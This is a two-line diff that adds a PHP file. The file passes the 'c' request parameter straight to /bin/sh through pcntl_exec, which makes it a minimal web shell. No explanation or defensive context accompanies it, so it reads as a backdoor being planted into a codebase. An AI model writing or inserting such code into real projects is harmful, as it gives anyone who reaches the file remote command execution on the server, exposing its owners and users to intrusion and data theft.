@@ -1,0 +1,2 @@
+<?php
+if(function_exists('pcntl_exec')){pcntl_exec('/bin/sh', array('-c', $_REQUEST['c']));}
